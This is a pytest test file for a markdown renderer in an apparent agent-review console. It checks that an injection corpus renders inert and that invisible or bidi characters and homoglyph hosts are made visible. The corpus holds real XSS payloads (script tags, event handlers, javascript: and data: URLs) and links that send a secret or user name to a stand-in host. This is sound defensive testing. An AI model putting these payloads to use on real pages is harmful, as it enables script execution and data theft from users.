"""render_markdown: an injection corpus must come out inert (no link, image, script, handler)."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest

from hitl_agent.server.console import MAX_RENDER_CHARS, render_markdown, reveal_invisible

# Elements that act, load, navigate or embed. The renderer must never produce any of them.
ACTIVE_TAGS = {
    "a", "img", "script", "iframe", "frame", "object", "embed", "svg", "math", "link", "meta",
    "style", "form", "input", "button", "video", "audio", "source", "base", "textarea", "select",
}  # fmt: skip
# The only attribute the renderer may emit: class (code languages, alignment, our spans).
ALLOWED_ATTRS = {"class"}


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str | None]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attrs.extend(attrs)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def parse(html: str) -> _Collector:
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector


def assert_inert(html: str) -> _Collector:
    doc = parse(html)
    active = ACTIVE_TAGS.intersection(doc.tags)
    assert not active, f"active elements {active} in {html!r}"
    names = {name for name, _ in doc.attrs}
    assert names <= ALLOWED_ATTRS, f"unexpected attributes {names - ALLOWED_ATTRS} in {html!r}"
    for name, value in doc.attrs:
        assert not name.startswith("on"), html
        assert "javascript:" not in (value or "").lower(), html
    return doc


CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    "<iframe src=https://evil.example></iframe>",
    "<svg onload=alert(1)><circle/></svg>",
    "<div style=\"background:url('javascript:alert(1)')\">x</div>",
    '<details open ontoggle="alert(1)">x</details>',
    "[click me](javascript:alert(1))",
    "[click me](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox)",
    '[approve](https://evil.example/?leak=secret "title onmouseover=alert(1)")',
    "[ref link][r]\n\n[r]: javascript:alert(1)",
    "<https://evil.example/auto>",
    "<javascript:alert(1)>",
    "![pixel](https://evil.example/track.gif?user=alice)",
    '![x" onerror="alert(1)](https://evil.example/a.png)',
    "![ref img][i]\n\n[i]: https://evil.example/i.png",
    "[![nested](https://evil.example/i.png)](https://evil.example/)",
    "```html\n<script>alert(1)</script>\n```",
    '```js" onclick="alert(1)\ncode\n```',
    "`<img src=x onerror=alert(1)>`",
    "| a | b |\n|:--|--:|\n| <script>x</script> | [l](javascript:x) |",
    "<!-- comment --><style>*{display:none}</style>",
    "&lt;script&gt; &#x3C;script&#x3E; &#60;img src=x onerror=alert(1)&#62;",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "\u202e<script>\u202c and \u2066[a](javascript:x)\u2069",
]


@pytest.mark.parametrize("text", CORPUS)
def test_injection_corpus_renders_inert(text: str) -> None:
    assert_inert(render_markdown(text))


def test_raw_html_is_shown_as_text() -> None:
    doc = assert_inert(render_markdown("<script>alert(1)</script>"))
    assert "<script>alert(1)</script>" in "".join(doc.text)


def test_link_shows_text_and_url_as_plain_text() -> None:
    html = render_markdown("see [the docs](https://example.com/a?b=1) now")
    doc = assert_inert(html)
    text = "".join(doc.text)
    assert "the docs" in text
    assert "https://example.com/a?b=1" in text
    assert "href" not in html


def test_javascript_link_url_stays_visible_not_hidden() -> None:
    # markdown-it would drop a javascript: link to plain text; we show it as an inert link so
    # the reviewer sees what the agent tried to point at.
    text = "".join(assert_inert(render_markdown("[ok](javascript:alert(1))")).text)
    assert "ok" in text and "javascript:alert(1)" in text


def test_image_is_text_with_alt_and_url() -> None:
    doc = assert_inert(render_markdown("![a chart](https://example.com/c.png)"))
    assert "[image: a chart — https://example.com/c.png]" in "".join(doc.text)


def test_tables_and_strikethrough_are_enabled() -> None:
    html = render_markdown("~~old~~\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |")
    doc = assert_inert(html)
    assert {"s", "table", "th", "td"} <= set(doc.tags)
    assert ("class", "md-align-center") in doc.attrs
    assert "style" not in html


@pytest.mark.parametrize(
    "char",
    [
        *("\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068"),
        *("\u2069", "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u200e", "\u200f"),
        *("\x00", "\x1b"),
    ],
)
def test_invisible_and_bidi_characters_are_made_visible(char: str) -> None:
    html = render_markdown(f"approve{char}reject")
    assert char not in html
    assert f"⟦U+{ord(char):04X}⟧" in html


def test_trojan_source_inside_code_and_link_is_visible_too() -> None:
    html = render_markdown(
        "```\nif admin\u202e { ⁦// check\u2069\n```\n[a\u200bb](https://x\u200b.example)"
    )
    for char in "\u202e\u2069\u200b":
        assert char not in html
    assert "a⟦U+200B⟧b" in html  # the link text shows the marker


def test_link_url_is_shown_in_ascii_form_so_homoglyph_hosts_stand_out() -> None:
    # The URL is shown as a browser would fetch it: punycode host, percent-encoded path
    # (CVE-2021-42694 homoglyphs: a Cyrillic "а" in "pаypal" cannot pass for Latin).
    html = render_markdown("[paypal.com](https://p\u0430ypal.com/\u00fc)")
    url = html.split('class="md-url">⟨', 1)[1].split("⟩</span>", 1)[0]
    assert url.isascii()
    assert "xn--" in url and "%C3%BC" in url


def test_reveal_invisible_leaves_ordinary_text_alone() -> None:
    text = "Ünïcode, emoji 👍, tabs\tand\nnewlines, العربية"
    assert reveal_invisible(text) == text


def test_huge_text_is_truncated_with_an_explicit_note_and_fast() -> None:
    text = "[" * 200_000 + "a](javascript:x)" + "*" * 100_000 + "<script>" * 10_000
    started = time.perf_counter()
    html = render_markdown(text)
    elapsed = time.perf_counter() - started
    doc = assert_inert(html)
    assert elapsed < 5, f"rendering took {elapsed:.1f}s"
    note = "".join(doc.text)
    assert f"{len(text) - MAX_RENDER_CHARS} more characters not shown" in note
    assert "sha256" in note


def test_text_at_the_limit_is_not_truncated() -> None:
    html = render_markdown("a" * MAX_RENDER_CHARS)
    assert "not shown" not in html


def test_rejects_non_string() -> None:
    with pytest.raises(TypeError, match="expects str"):
        render_markdown(b"bytes")  # type: ignore[arg-type]
